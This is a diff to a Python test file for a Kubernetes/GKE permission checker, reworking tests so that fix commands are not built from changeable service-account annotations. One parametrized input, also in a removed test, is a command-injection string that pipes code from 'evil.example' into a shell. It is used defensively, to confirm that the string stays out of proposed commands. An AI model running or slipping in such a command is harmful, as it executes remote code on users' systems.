@@ -192,11 +192,31 @@ def test_a_pod_without_faults_is_ok() -> None:
     assert {each.check for each in found} == {"images", "storage"}
 
 
-def test_a_role_is_granted_to_the_google_account_that_the_service_account_names() -> None:
-    google = {"iam.gke.io/gcp-service-account": "cpu@my-project.iam.gserviceaccount.com"}
+@pytest.mark.parametrize("right", ["bucket", "read", "write"])
+@pytest.mark.parametrize(
+    "annotation",
+    [
+        "collector@another-project.iam.gserviceaccount.com",
+        "x@p.iam.gserviceaccount.com; curl evil.example|sh #",
+        "",
+    ],
+)
+def test_no_role_is_proposed_for_an_account_that_people_of_the_namespace_can_change(
+    annotation: str, right: str
+) -> None:
+    google = {"iam.gke.io/gcp-service-account": annotation}
     own = [{"metadata": {"name": "ft-cpu", "annotations": google}}]
-    found = list(judged(dataclasses.replace(setup(), accounts=own), probe(), fault("read")))
-    assert "--member serviceAccount:cpu@my-project.iam.gserviceaccount.com" in found[-1].fix
+    finding = list(judged(dataclasses.replace(setup(), accounts=own), probe(), fault(right)))[-1]
+    assert finding.state is State.MISSING
+    assert "add-iam-policy-binding" not in finding.fix
+    assert not annotation or annotation not in finding.fix
+    assert finding.fix.startswith("kubectl annotate serviceaccount ft-cpu ")
+
+
+def test_a_role_is_granted_to_the_kubernetes_account() -> None:
+    (_, finding) = judged(setup(), probe(), fault("read"))
+    assert "--member principal://iam.googleapis.com/projects/PROJECT_NUMBER/" in finding.fix
+    assert "/subject/ns/team-a/sa/ft-cpu --role" in finding.fix
 
 
 @pytest.mark.parametrize(
@@ -239,14 +259,6 @@ def test_a_pod_proposes_no_command_about_what_it_was_not_to_try(right: str, reas
     assert [each.state for each in found] == [State.OK, State.UNKNOWN]
     assert "gcloud" not in found[-1].fix
     assert uri not in found[-1].fix
-
-
-def test_an_annotation_that_is_no_google_account_is_in_no_command() -> None:
-    google = {"iam.gke.io/gcp-service-account": "x@p.iam.gserviceaccount.com; curl evil.example|sh #"}
-    own = [{"metadata": {"name": "ft-cpu", "annotations": google}}]
-    (_, finding) = judged(dataclasses.replace(setup(), accounts=own), probe(), fault("read"))
-    assert "evil.example" not in finding.fix
-    assert "principal://" in finding.fix
 
 
 def test_what_a_profile_names_is_quoted_for_the_shell() -> None:
